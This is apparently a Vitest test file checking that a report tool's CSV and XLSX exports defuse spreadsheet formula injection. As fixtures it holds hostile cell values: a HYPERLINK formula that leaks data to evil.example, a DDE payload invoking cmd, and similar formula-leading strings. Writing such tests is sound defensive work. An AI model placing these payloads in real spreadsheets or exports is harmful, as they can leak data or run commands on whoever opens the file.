import { execFile } from 'node:child_process'
import { readFile, readdir } from 'node:fs/promises'
import { join } from 'node:path'
import { promisify } from 'node:util'
import ExcelJS from 'exceljs'
import JSZip from 'jszip'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { csvText } from '../../src/main/report/csv'
import { Store } from '../../src/main/store/store'
import { customers, fixtureCases } from '../helpers/reportFixture'
import { tempDir } from '../helpers/temp'

const run = promisify(execFile)
const bin = join(__dirname, '..', '..', 'bin', 'makegood.cjs')
const now = '2026-11-23T10:00:00.000Z'

const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
const dde = "@SUM(1+1)*cmd|' /C calc'!A0"
const plus = '+1+cmd'
const tabbed = '\t=1+1'

/** A spreadsheet runs a text cell as a formula when it starts with one of these. */
const runsAsFormula = (value: unknown) => typeof value === 'string' && /^[=+\-@\t\r]/.test(value)

/** The fixture month, with a department, a category and a customer named by an attacker. */
async function hostileFolder(): Promise<string> {
  const dir = await tempDir('makegood-injection-')
  const store = await Store.open(dir)
  await store.commit([
    {
      collection: 'settings',
      value: {
        ...store.settings,
        departments: [hyperlink, 'Floor'],
        categories: store.settings.categories.map((c) => (c.id === 'long-wait' ? { ...c, label: dde } : c)),
      },
    },
    ...customers.map((value, i) => ({
      collection: 'customers' as const,
      value: i === 0 ? { ...value, name: plus } : value,
    })),
    ...fixtureCases().map((value) => ({
      collection: 'cases' as const,
      value: value.department === 'Kitchen' ? { ...value, department: hyperlink } : value,
    })),
  ])
  await store.close()
  return dir
}

function report(data: string, format: string, out: string) {
  const args = ['--data', data, '--now', now, 'report', '--month', '2026-10', '--format', format, '--out', out]
  return run(process.execPath, [bin, ...args], { env: { ...process.env, LC_ALL: '', LANG: 'en_US.UTF-8' } })
}

describe('exports cannot attack the person who opens them', () => {
  it('csvText: formula-leading text gets a quote inside a quoted cell; numbers stay numbers', () => {
    const text = csvText(
      ['name', 'count'],
      [
        [hyperlink, -3],
        [dde, -2.5],
        [plus, 0],
        [tabbed, 12],
        ['-2+3', 1],
        ['\r=1', 2],
        ['-3', 3],
        ['Plain name', 4],
      ],
    )
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click me"")"`)
    const rows = Papa.parse<(string | number)[]>(text, { dynamicTyping: true, skipEmptyLines: true }).data.slice(1)
    expect(rows.map((r) => r[0])).toEqual([
      `'${hyperlink}`,
      `'${dde}`,
      `'${plus}`,
      `'${tabbed}`,
      "'-2+3",
      "'\r=1",
      // A number written as text is read as that number by a spreadsheet: nothing to defuse.
      -3,
      'Plain name',
    ])
    expect(rows.map((r) => r[1])).toEqual([-3, -2.5, 0, 12, 1, 2, 3, 4])
  })

  it('report --format csv: hostile department and category names are neutralised in every file', async () => {
    const data = await hostileFolder()
    const out = join(await tempDir('makegood-injection-out-'), 'csv')
    await report(data, 'csv', out)
    const files = await readdir(out)
    const seen = new Set<string>()
    for (const file of files) {
      const text = (await readFile(join(out, file), 'utf8')).replace(/^\uFEFF/, '')
      const rows = Papa.parse<unknown[]>(text, { dynamicTyping: true, skipEmptyLines: true }).data
      for (const cell of rows.flat()) {
        // Negative figures would be numbers here (dynamicTyping), which never count as formulas.
        expect(runsAsFormula(cell), `${file}: ${String(cell)}`).toBe(false)
        if (typeof cell === 'string' && cell.startsWith("'")) seen.add(cell.slice(1))
      }
    }
    // The hostile names did reach the files (neutralised), so the check above had something to check.
    expect(seen.has(hyperlink)).toBe(true)
    expect(seen.has(dde)).toBe(true)
    const cases = Papa.parse<unknown[]>((await readFile(join(out, 'cases.csv'), 'utf8')).slice(1), {
      dynamicTyping: true,
      skipEmptyLines: true,
    }).data
    expect(cases[1]).toEqual(['Cases opened', 4])
  }, 60_000)

  it('report --format xlsx: the same names are text cells, never formulas', async () => {
    const data = await hostileFolder()
    const file = join(await tempDir('makegood-injection-out-'), 'oct.xlsx')
    await report(data, 'xlsx', file)
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.readFile(file)
    const texts: string[] = []
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula)
          expect(cell.formula, `${sheet.name}!${cell.address}`).toBeUndefined()
          if (typeof cell.value === 'string') texts.push(cell.value)
        }),
      ),
    )
    expect(texts).toContain(hyperlink)
    expect(texts).toContain(dde)
    // And in the file itself: the name is a shared/inline string, no <f> (formula) element at all.
    const zip = await JSZip.loadAsync(await readFile(file))
    const sheets = Object.keys(zip.files).filter((n) => /^xl\/worksheets\/.*\.xml$/.test(n))
    expect(sheets.length).toBeGreaterThan(1)
    for (const name of sheets) {
      expect(await zip.file(name)?.async('string'), name).not.toContain('<f>')
    }
  }, 60_000)
})
